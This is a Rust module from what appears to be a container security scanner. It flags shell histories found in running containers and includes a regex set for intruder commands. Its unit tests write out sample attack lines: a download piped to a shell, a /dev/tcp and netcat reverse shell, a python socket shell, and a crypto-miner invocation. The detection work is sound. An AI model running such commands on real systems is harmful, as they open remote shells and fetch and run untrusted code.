//! Shell-history rules (`collect --shell-history`), over history files the node agent read from
//! running containers. Containers are not logged into: any typed history is worth a look, and
//! some commands are what an intruder types.
//!
//! - KF-HIST-001 (medium): a running container holds an interactive shell history.
//! - KF-HIST-002 (high): that history downloads and runs code, opens a reverse shell, decodes a
//!   payload, makes a file in a temporary directory executable, or names a crypto miner.

use super::{Finding, Ident, Severity};
use regex::RegexSet;
use std::sync::OnceLock;

/// What an intruder types, one pattern per kind of move (matched per line).
const SUSPICIOUS: &[(&str, &str)] = &[
    (r"(curl|wget)\b[^|;&]*\|\s*(sudo\s+)?(ba|da|z|k|a)?sh\b", "download piped into a shell"),
    (r"/dev/(tcp|udp)/", "bash network redirection (reverse shell)"),
    (r"\b(nc|ncat|netcat)\b.*\s-[a-z]*[ec]\b", "netcat executing a program (reverse shell)"),
    (r"\bsocat\b.*\bexec:", "socat executing a program (reverse shell)"),
    (r"base64\s+(-d|--decode)\b", "base64-decoded payload"),
    (r"\bchmod\s+(\+x|[0-7]*[1357][0-7]{0,2})\s+\S*/(tmp|dev/shm|var/tmp)/", "file in a temporary directory made executable"),
    (r"(xmrig|minerd|cpuminer|stratum\+tcp://)", "crypto miner"),
    (r"\b(python[23]?|perl|php|ruby)\b.*\bsocket\b.*\b(connect|fsockopen)\b", "scripted network shell"),
];

fn patterns() -> &'static RegexSet {
    static SET: OnceLock<RegexSet> = OnceLock::new();
    SET.get_or_init(|| RegexSet::new(SUSPICIOUS.iter().map(|(p, _)| format!("(?i){p}"))).expect("static patterns"))
}

/// Commands of a history file: its non-empty lines, zsh's `: <time>:0;` prefixes removed.
fn commands(text: &str) -> Vec<&str> {
    text.lines()
        .map(|l| {
            let l = l.trim();
            match l.strip_prefix(": ").and_then(|r| r.split_once(';')) {
                Some((stamp, cmd)) if stamp.split(':').all(|p| p.chars().all(|c| c.is_ascii_digit())) => cmd.trim(),
                _ => l,
            }
        })
        .filter(|l| !l.is_empty())
        .collect()
}

/// A line for a one-line reason: printable, at most 120 characters.
fn shown(s: &str) -> String {
    let clean: String = s.chars().map(|c| if c.is_control() { '?' } else { c }).collect();
    if clean.chars().count() > 120 { format!("{}…", clean.chars().take(119).collect::<String>()) } else { clean }
}

/// The findings for one history file of `container` in `pod`.
pub fn check_history(pod: &Ident, container: &str, file: &str, text: &str) -> Vec<Finding> {
    let cmds = commands(text);
    let Some(last) = cmds.last() else { return vec![] };
    let mut out = vec![Finding::new(
        "KF-HIST-001",
        Severity::Medium,
        pod,
        format!("container {container}: shell history {file} holds {} command(s), last: {}", cmds.len(), shown(last)),
    )];
    let set = patterns();
    let hits: Vec<(&str, &str)> = cmds.iter().filter_map(|c| set.matches(c).iter().next().map(|i| (*c, SUSPICIOUS[i].1))).collect();
    if let Some((cmd, what)) = hits.first() {
        out.push(Finding::new(
            "KF-HIST-002",
            Severity::High,
            pod,
            format!(
                "container {container}: {what} in {file}: {}{}",
                shown(cmd),
                if hits.len() > 1 { format!(" (+{} more)", hits.len() - 1) } else { String::new() }
            ),
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pod() -> Ident {
        Ident { kind: "Pod".into(), api_version: "v1".into(), namespace: Some("shop".into()), name: "web-1".into(), uid: None }
    }

    fn ids(text: &str) -> Vec<String> {
        check_history(&pod(), "app", "/root/.ash_history", text).into_iter().map(|f| f.id).collect()
    }

    #[test]
    fn what_intruders_type_is_high() {
        for cmd in [
            "wget -qO- http://203.0.113.9/x | sh",
            "curl -fsSL https://example.test/i.sh|bash",
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "nc 203.0.113.9 4444 -e /bin/sh",
            "ncat -c sh 203.0.113.9 4444",
            "echo ZWNobyBoaQ== | base64 -d | sh",
            "chmod +x /tmp/.x/kworker",
            "chmod 755 /dev/shm/m",
            "./xmrig -o stratum+tcp://pool.example.test:3333",
            "python3 -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.9\",1))'",
            ": 1700000000:0;curl http://x.test/a | sh",
        ] {
            assert_eq!(ids(&format!("ls\n{cmd}\n")), ["KF-HIST-001", "KF-HIST-002"], "{cmd}");
        }
    }

    #[test]
    fn ordinary_history_is_only_noted_and_empty_history_is_nothing() {
        for text in [
            "ls -la\ncat /etc/os-release\nps aux\n",
            "curl -o /tmp/report.json http://svc.test/health\n",
            "chmod 644 /tmp/notes.txt\n",
            "echo 'sh is a shell'\nbase64 file.txt\n",
        ] {
            assert_eq!(ids(text), ["KF-HIST-001"], "{text}");
        }
        assert!(ids("").is_empty());
        assert!(ids("\n  \n").is_empty());
    }

    #[test]
    fn the_reason_is_one_printable_line_naming_the_command() {
        let f = check_history(&pod(), "app", "/root/.bash_history", "wget -qO- http://203.0.113.9/x | sh\x1b[2J\nid\n");
        assert!(f[0].reason.contains("2 command(s), last: id"), "{}", f[0].reason);
        assert!(f[1].reason.contains("download piped into a shell") && f[1].reason.contains("203.0.113.9"), "{}", f[1].reason);
        assert!(!f[1].reason.contains('\x1b'));
        let long = format!("curl http://x.test/{} | sh", "a".repeat(500));
        let f = check_history(&pod(), "app", "/root/.bash_history", &long);
        assert!(f[1].reason.chars().count() < 200, "{}", f[1].reason);
    }
}
